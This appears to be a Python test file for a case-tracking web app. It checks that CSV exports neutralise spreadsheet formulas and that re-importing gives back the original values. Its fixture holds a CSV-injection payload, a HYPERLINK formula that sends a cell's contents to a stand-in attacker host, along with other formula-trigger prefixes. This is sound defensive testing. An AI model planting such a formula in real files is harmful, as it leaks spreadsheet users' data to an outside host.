"""An expert opens a CSV export in Excel: text typed by anyone never runs as a formula,
and the same file imported back gives every value exactly as typed.

DEPENDS ON THE CSV WRITER BEING WIRED: the export's CSV writer must pass each record
through ``import_format.csv_safe_record`` (the `visibility` branch does this in
panel_tracker/exports/). Until then the first assertion fails: the cell is written raw.
"""
from __future__ import annotations

import csv
import io

from flask import g
from sqlmodel import select

from panel_tracker.audit.models import AuditRecord
from panel_tracker.cases import services
from panel_tracker.cases.importer import import_items
from panel_tracker.cases.models import Item

TYPED = {
    "type": "-folding stock rifle",
    "model": "@AK",
    "other_marks": '=HYPERLINK("http://evil.example/?leak="&A1,"see photo")',
    "notes": "'=typed with an apostrophe in front",
    "lot": "+17-85-71",
    "headstamp": "\t71 85",
    "serial": "-0042",
    "serial_legibility": "intact",
    "recovered_place": "'66' in triangle, near Aden",
    "lat": -12.5,
    "lon": 44.207,
}


def test_csv_export_neutralises_formulas_and_reimports_to_the_values_typed(world, db):
    expert = world.users["expert"]
    case = services.create_case(db, world.panel, {"ref": "YEM-2024-017"}, expert)
    item = services.create_item(db, case, {"category": "small_arm", "quantity": 1, **TYPED}, expert)
    db.commit()
    g.pop("_login_user", None)

    response = world.client("expert").get("/items/export?format=csv")
    data = response.get_data()
    response.close()
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))

    assert row["other_marks"] == "'" + TYPED["other_marks"], "the CSV writer does not call csv_safe_record yet"
    assert (row["type"], row["model"], row["lot"], row["headstamp"], row["serial"], row["notes"]) == (
        "'-folding stock rifle", "'@AK", "'+17-85-71", "'\t71 85", "'-0042", "''=typed with an apostrophe in front")
    assert row["recovered_place"] == TYPED["recovered_place"]  # no formula: left as it is
    assert (row["lat"], row["lon"], row["quantity"]) == ("-12.5", "44.207", "1")  # numbers stay numbers

    path = world.app.instance_path + "/export.csv"
    with open(path, "wb") as file:
        file.write(data)
    before = db.exec(select(AuditRecord.seq).order_by(AuditRecord.seq.desc())).first()
    report = import_items(db, world.panel, path, actor=expert, update=True)
    assert report.ok, report.errors
    db.commit()
    assert (report.updated, report.unchanged) == (0, 1)  # the round trip changed nothing
    changes = db.exec(select(AuditRecord).where(AuditRecord.seq > before, AuditRecord.action == "item.update")).all()
    assert changes == []  # the round trip changed nothing
    db.refresh(item)
    assert {name: getattr(item, name) for name in TYPED if name != "serial_legibility"} == {
        name: value for name, value in TYPED.items() if name != "serial_legibility"}
    assert db.exec(select(Item)).all() == [item]
